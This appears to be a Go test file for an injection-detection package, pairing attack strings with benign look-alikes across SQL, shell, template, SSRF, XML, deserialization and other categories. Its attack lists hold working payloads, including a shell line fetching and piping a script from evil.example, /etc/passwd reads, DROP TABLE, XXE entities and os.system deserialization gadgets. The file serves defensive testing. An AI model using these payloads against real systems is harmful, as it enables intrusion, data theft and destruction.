package grammar

import (
	"strings"
	"testing"
	"time"
)

// cases are values by test: what it must find, and what people write.
var cases = map[string]struct{ attacks, benign []string }{
	"sql": {
		[]string{"' UNION VALUES(1,2)-- ", "' COLLATE NOCASE OR 1=1-- ", "1 OR id>0", "1 OR true", "1 OFFSET (SELECT 1)", "\"/*会社*/OR/*会社*/1=1--/*会社*/",
			"' or '1'='1", "お茶' AND SLEEP(5)#", "x'); DROP TABLE reviews;--", "'||(SELECT password FROM users LIMIT 1)||'", "' && this.password.length>0 && ''=='",
			"1' WAITFOR DELAY '0:0:5'--", "1-sleep(5)", "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- ", "(CASE WHEN 1=1 THEN id ELSE price END)"},
		[]string{"D'Angelo Voodoo LP", "Rock'n'Roll & R&B", "10\"×8\" フォトフレーム", "STEINS;GATE", "The Table; The Chair", "union 労働組合 select 品", "select or union shirts",
			"\"S\" or \"M\"", "I can't or won't = don't", "Select Shop ORDER by 担当", "説明(' OR 1=1 など)がわかりやすい", "max(10)", "<b class=\"x\">12/1&#12316;12/25</b>", "p@$$w0rd';-"},
	},
	"xpath": {
		[]string{"' or count(//user)>0 or 'a'='b", "'] | //password | //a['", "\" or true() or \"\"=\"", "1] | //user[@id=1", "' or starts-with(password,'a') or 'x'='y", "1 or position()=1"},
		[]string{"\"S\" or \"M\"", "AC/DC", "it's black and white", "ソファ or 椅子"},
	},
	"script": {
		[]string{"'-alert(1)-'", "\"+alert?.(1)+\"", "${alert(1)}", "'; sleep(5000); var a='", "x', $where: '1==1"},
		[]string{"\"open\" は開く", "'alert' という曲", "5'10\"", "{{{(>_<)}}}", "(\"∀\"*)"},
	},
	"php": {
		[]string{"'.system('id').'", "'.`id`.'", "\";phpinfo();//", "'.$_GET[0].'", "\".PhpInfo /*x*/ ().\""},
		[]string{"\"system\" という本", "O'Neill. print", "PHPの$_GETと$_POST", "'exec'の意味は？"},
	},
	"ldap": {
		[]string{"*)(uid=*))(|(uid=*", "x) (mail=*", "admin)(&)", "*)\x00"},
		[]string{"(笑)(泣)", "(a)(b)(c)", "Tシャツ(M)(白)=1,000円", "ヽ(`Д´)ﾉ"},
	},
	"shell": {
		[]string{"a.png;id;", "127.0.0.1; id", ";who$()ami;", ";cu'r'l http://evil.example/x.sh|sh;", ";a=c b=at;$a$b /etc/passwd;", "`id`", "\nid\n", "a & ping -c 1 x.example", "$(i\"\"d)", "{cat,/etc/passwd}|{cat,/etc/passwd}", ";/???/c?t /etc/passwd", "&&ls"},
		[]string{"STEINS;GATE", "a|b;c&d", "it's fine; cat and dog", "`赤`", "Rock & Roll", "`backtick`", "; date 12/24", "http://shop.example/?a=1&id=3", "order by `uname`, `date`", "(´;ω;`)", "a;sort of nice"},
	},
	"template": {
		[]string{"{{7*7}}", "{{ 7*'7' }}", "{{config}}", "{% debug %}", "{$smarty.version}", "@(1+2)", "#{%x(id)}", "<%= 7*7 %>", "*{7*7}", "{{ beans|attr('x') }}", "${{7*7}}", "#set($x=7*7)$x", "{{printf \"%s\" \"x\"}}"},
		[]string{"{{name}}様", "${customer_name} 様", "<%= user.name %>", "{{{(>_<)}}}", "{{ }} や {% %}", "{グレー}", "@(10-12時)", "#1 (新品)", "$100 (税込)"},
	},
	"fetch": {
		[]string{"http://0x7f.1/", "http://017700000001/", "http://[::1]/", "http://127。0。0。1/", "http://a@127.0.0.1/", "gopher://x.example/", "http:\t//localhost/", "http:/127.0.0.1/", "http:\\\\127.0.0.1\\",
			"//169.254.169.254/latest/", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://127.0.0.1.nip.io/", "url:file:///etc/passwd", "http://[::ffff:127.0.0.1]/", "http://2852039166/"},
		[]string{"https://shop.example/", "http://192.168.0.1/ が開けません", "https://1.1.1.1/", "mailto:info@example.com", "12:30 希望", "//お急ぎ//", "file:///C:/Users/taro/a.jpg", "http://localhost.example/", "file://と表示されます"},
	},
	"neighbour": {[]string{"http://10.0.0.5:9200/_cat", "http://192.168.0.1/"}, []string{"https://shop.example/", "192.168.1.1を開く"}},
	"host":      {[]string{"127.0.0.1:6379", "localhost", "0x7f000001", "[::1]", "10.0.0.5:9200/_cat"}, []string{"www.example.co.jp", "12", "2026", "1.5", "shop"}},
	"header": {
		[]string{"件名\r\nBcc: v@example.com", "x\nSet-Cookie: a=b", "a\rCc: b@example.com", "x\r\nHTTP/1.1 200 OK", "x\r\nRCPT TO:<a@b.example>"},
		[]string{"To: Ken'ichi\r\nFrom: 花子", "1行目\n2行目: あり", "送り先: 東京", "a\r\n\r\nb"},
	},
	"object": {
		[]string{"O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "cos\nsystem\n(S'id'\ntR.", "Y29zCnN5c3RlbQooUydpZCcKdFIu", "!!python/object/apply:os.system [\"id\"]", "--- !ruby/object:Gem::Installer\ni: x",
			"BAhvOgtPYmplY3QA", "AAEAAAD/////AQAAAAAAAAAMAg", "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==", "com.sun.rowset.JdbcRowSetImpl", "_$$ND_FUNC$$_function(){}()"},
		[]string{"a:1:{s:1:\"a\";i:1;}", "O: 8", "!!送料無料!!", "java.lang.NullPointerException と出ます", "www.example.com", "Tzo", "GA1.2.123456789.1763700000", "com.example.App を使っています"},
	},
	"xml": {
		[]string{"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "<!DOCTYPE a PUBLIC \"x\" \"http://evil.example/x.dtd\">", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"x\"/>"},
		[]string{"<!DOCTYPE html>", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">", "<!-- コメント -->"},
	},
	"graphql": {
		[]string{"{ __schema { types { name } } }", "fragment A on P { ...A } { p { ...A } }", "{ products(options: {take: 999999}) { id } }", "{ a " + strings.Repeat("{ a ", 14) + strings.Repeat("}", 15),
			"{" + manyNames(30) + "}"},
		[]string{"{ activeOrder { lines { productVariant { name } } } }", "query Search($input: SearchInput!) { search(input: $input) { totalItems items { productName } } }", "検索"},
	},
}

func manyNames(n int) string {
	var b strings.Builder
	for range n {
		b.WriteString(" a: order { code }")
	}
	return b.String()
}

func TestTests(t *testing.T) {
	for _, test := range Tests() {
		test, _ := Named(test.Name)
		c, ok := cases[test.Name]
		if !ok {
			t.Errorf("%s has no cases", test.Name)
		}
		for _, s := range c.attacks {
			if !test.Match(s) {
				t.Errorf("%s does not find %q", test.Name, s)
			}
		}
		for _, s := range c.benign {
			if test.Match(s) {
				t.Errorf("%s takes %q for an attack", test.Name, s)
			}
		}
	}
}

// TestNeeds holds that what a test needs is not more than it does need: the
// screen asks a test only where it is there.
func TestNeeds(t *testing.T) {
	for _, test := range Tests() {
		for name, c := range cases {
			for _, s := range append(c.attacks, c.benign...) {
				if test.Needs != nil && test.Match(s) && !test.possible(s) {
					t.Errorf("%s finds %q (of %s) without what it needs", test.Name, s, name)
				}
			}
		}
	}
}

// TestLong: four times as long takes four times as long, not sixteen. The bound is
// wide enough for any machine.
func TestLong(t *testing.T) {
	pieces := []string{"'", "\"", "`", "' or ", "' or 'a", "/*", "' /*", "--", "' --x", ";a", "|a ", "$(", "{{", "{%", "${", "<%", "#set(", "$a(", "\r\n", "\na: ", "<!", "<!ENTITY ", ")(", ")((((", "O:1:", "!", "!!", "{a", "{", "\nc", "' and a", "'.", "',$", "]|", "'\"`;|&\n$({%<!O:)",
		"1 or ", "a=b ", "''", "\\", "(", "' or (", "'a", "@{", "<#", "://", "+A", "' or \"", "' union ", "x;c''''", ";\"\"", "`a", "` ", ";a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}
	for _, test := range Tests() {
		for _, p := range pieces {
			s := strings.Repeat(p, (128<<10)/len(p))
			begun := time.Now()
			test.Match(s)
			if d := time.Since(begun); d > 20*time.Second {
				t.Errorf("%s takes %v for 128 KiB of %q", test.Name, d, p)
			} else if d > 200*time.Millisecond {
				t.Logf("%s takes %v for 128 KiB of %q", test.Name, d, p)
			}
		}
	}
}

// FuzzTests holds that no value makes a test panic, and that none finds a value
// without what it says it needs.
func FuzzTests(f *testing.F) {
	for _, c := range cases {
		for _, s := range append(c.attacks, c.benign...) {
			f.Add(s)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, test := range Tests() {
			if named, _ := Named(test.Name); named.Match(s) && !test.Match(s) {
				t.Errorf("%s: two answers for %q", test.Name, s)
			}
		}
	})
}
